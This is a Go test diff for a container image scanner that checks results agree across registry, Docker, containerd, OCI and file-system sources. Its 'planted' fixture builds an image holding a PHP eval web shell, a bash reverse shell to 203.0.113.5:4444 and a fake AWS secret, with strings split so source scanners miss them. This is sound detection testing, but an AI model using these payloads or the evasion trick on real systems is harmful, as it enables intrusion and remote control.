@@ -29,18 +29,39 @@ import (
 func TestSameFromEverywhere(t *testing.T) {
 	l := lab.Start(t)
 	db := advisories(t)
-	for _, name := range []string{"nginx", "tomcat"} {
-		t.Run(name, func(t *testing.T) { sameFromEverywhere(t, l, db, name) })
-	}
-}
-
-func sameFromEverywhere(t *testing.T, l *lab.Lab, db *vuln.DB, name string) {
-	reference, err := l.Image(t.Context(), name)
-	if err != nil {
+	nginx, err1 := l.Image(t.Context(), "nginx")
+	tomcat, err2 := l.Image(t.Context(), "tomcat")
+	if err := errors.Join(err1, err2); err != nil {
 		t.Fatal(err)
 	}
+	t.Run("planted", func(t *testing.T) { sameFromEverywhere(t, l, db, "planted", planted(t, nginx)) })
+	t.Run("tomcat", func(t *testing.T) { sameFromEverywhere(t, l, db, "tomcat", tomcat) })
+}
+
+// planted builds an image that has something of every kind. The texts are put together here, so that no scanner of
+// sources takes this file for what it is about.
+func planted(t *testing.T, base string) string {
+	t.Helper()
+	context := t.TempDir()
+	for name, text := range map[string]string{
+		"Dockerfile": "FROM " + base + "\nCOPY shell.php /srv/www/shell.php\nCOPY run.sh deploy.env /srv/\nRUN rm /srv/deploy.env && chmod 777 /srv/run.sh\nEXPOSE 22\n",
+		"shell.php":  "<?php ev" + `al($_POST["c"]);`,
+		"run.sh":     "#!/bin/sh\nbash -i >& /dev" + "/tcp/203.0.113.5/4444 0>&1\n",
+		"deploy.env": "aws_secret_access_key = kXq3vT8bN2mZp7Lw" + "Rj5YcH1fGd9sAe4uQo6iWx0B\n",
+	} {
+		if err := os.WriteFile(filepath.Join(context, name), []byte(text), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	const reference = "scan-test/planted-source:1"
+	docker(t, "build", "-q", "-t", reference, context)
+	t.Cleanup(func() { _ = exec.Command("docker", "rmi", reference).Run() })
+	return reference
+}
+
+func sameFromEverywhere(t *testing.T, l *lab.Lab, db *vuln.DB, name, reference string) {
 	dir := t.TempDir()
-	archive, exported, layout := filepath.Join(dir, "image.tar"), filepath.Join(dir, "oci.tar"), filepath.Join(dir, "layout")
+	archive, exported, layout, root := filepath.Join(dir, "image.tar"), filepath.Join(dir, "oci.tar"), filepath.Join(dir, "layout"), filepath.Join(dir, "root.tar")
 	docker(t, "save", "-o", archive, reference)
 	pushed := l.Registry() + "/scan-test/" + name + ":1"
 	docker(t, "tag", reference, pushed)
@@ -55,13 +76,26 @@ func sameFromEverywhere(t *testing.T, l *lab.Lab, db *vuln.DB, name string) {
 	command(t, "tar", "-C", layout, "-xf", exported)
 	container := strings.TrimSpace(docker(t, "run", "-d", "--entrypoint", "sleep", reference, "600"))
 	t.Cleanup(func() { docker(t, "rm", "-f", container) })
+	second := "scan-test-" + name
+	command(t, "ctr", "-n", "scan-test", "run", "-d", pushed, second, "sleep", "600")
+	t.Cleanup(func() {
+		_ = exec.Command("ctr", "-n", "scan-test", "tasks", "rm", "-f", second).Run()
+		command(t, "ctr", "-n", "scan-test", "containers", "rm", second)
+	})
+	docker(t, "export", "-o", root, container)
+	command(t, "mkdir", filepath.Join(dir, "root"))
+	command(t, "tar", "-C", filepath.Join(dir, "root"), "-xf", root)
 
 	want := scanned(t, l, db, archive)
 	if len(want.Packages) < 80 || len(want.Vulnerabilities) < 2 || len(want.Findings) < 2 {
 		t.Fatalf("%s: %d packages, %d vulnerabilities, %d findings", name, len(want.Packages), len(want.Vulnerabilities), len(want.Findings))
 	}
+	if name == "planted" {
+		checkKinds(t, want.Findings)
+	}
 	for _, target := range []string{
-		"registry:" + pushed, "docker:" + reference, "containerd:" + pushed, "oci:" + layout, exported, "container:" + container,
+		"registry:" + pushed, "docker:" + reference, "containerd:" + pushed, "oci:" + layout, exported, "oci-archive:" + exported,
+		"docker-archive:" + archive + ":" + reference, "container:" + container, "container:" + second,
 	} {
 		got := scanned(t, l, db, target)
 		if strings.HasPrefix(target, "container:") && len(got.Layers) == len(want.Layers)+1 {
@@ -72,6 +106,38 @@ func sameFromEverywhere(t *testing.T, l *lab.Lab, db *vuln.DB, name string) {
 		}
 	}
 	checkPackages(t, reference, want.Packages)
+	unpacked := seen(want)
+	for _, target := range []string{root, "dir:" + filepath.Join(dir, "root")} {
+		if diff := cmp.Diff(unpacked, seen(scanned(t, l, db, target))); diff != "" {
+			t.Errorf("%s (-file +%s):\n%.4000s", name, target, diff)
+		}
+	}
+}
+
+func checkKinds(t *testing.T, findings []bulkhead.Finding) {
+	t.Helper()
+	for _, kind := range []bulkhead.FindingKind{bulkhead.FindingMalware, bulkhead.FindingWebShell, bulkhead.FindingSecret, bulkhead.FindingMisconfig} {
+		if !slices.ContainsFunc(findings, func(f bulkhead.Finding) bool { return f.Kind == kind }) {
+			t.Errorf("nothing of kind %s in what was planted", kind)
+		}
+	}
+}
+
+// seen are the lines of a report that a root file system has too: of what is in it, without layers and how it is run.
+func seen(r bulkhead.Report) (lines []string) {
+	for _, p := range r.Packages {
+		lines = append(lines, "package "+p.PURL+" "+p.Path)
+	}
+	for _, v := range r.Vulnerabilities {
+		lines = append(lines, "vulnerability "+v.ID+" "+v.PURL+" "+v.Path)
+	}
+	for _, f := range r.Findings {
+		if f.Path != "" && !strings.Contains(f.Message, "still in the") {
+			lines = append(lines, fmt.Sprintf("%s %s %s:%d", f.Kind, f.Rule, f.Path, f.Line))
+		}
+	}
+	slices.Sort(lines)
+	return lines
 }
 
 func asJSON(t *testing.T, r bulkhead.Report) []string {
